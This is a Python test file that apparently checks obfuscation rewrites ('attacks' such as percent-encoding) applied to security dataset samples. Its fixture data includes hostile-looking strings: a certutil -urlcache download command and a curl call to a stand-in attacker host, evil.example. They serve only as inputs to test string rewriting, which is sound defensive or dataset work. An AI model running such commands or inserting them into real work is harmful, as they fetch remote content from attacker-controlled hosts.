"""What `augment` rewrites, as attacks."""

from __future__ import annotations

from random import Random
from urllib.parse import unquote

import pytest

from sftsec_core.api.contracts import AttackSpec, AttackTarget, EmptyConfig
from sftsec_core.dataset.rewrites.attacks import ATTACKS

TEXTS = {
    "url": "https://evil.example/login?id=7&user=bob",
    "cmd": "certutil -urlcache -split -f",
    "shell": "curl -s -k http://evil.example",
}


def rewritings(spec: AttackSpec, target: AttackTarget) -> set[str]:
    draws = (Random(seed) for seed in range(8))  # noqa: S311 - draws that can be repeated
    return {spec.rewrite(EmptyConfig(), target, draw) for draw in draws}


class TestAttacks:
    @pytest.mark.parametrize("spec", ATTACKS, ids=lambda spec: spec.name)
    def test_each_rewrites_some_kind(self, spec: AttackSpec) -> None:
        made = {
            (kind, text)
            for kind in sorted(spec.kinds & TEXTS.keys())
            for text in rewritings(spec, AttackTarget(TEXTS[kind], kind))
        }
        assert any(text != TEXTS[kind] for kind, text in made)
        assert all(spec.name.startswith("rewrite_") for spec in ATTACKS)

    def test_percent_decodes_to_the_same(self) -> None:
        (percent,) = (spec for spec in ATTACKS if spec.name == "rewrite_percent")
        made = rewritings(percent, AttackTarget(TEXTS["url"], "url"))
        assert {unquote(text) for text in made} == {TEXTS["url"]}
        assert len(made) > 1
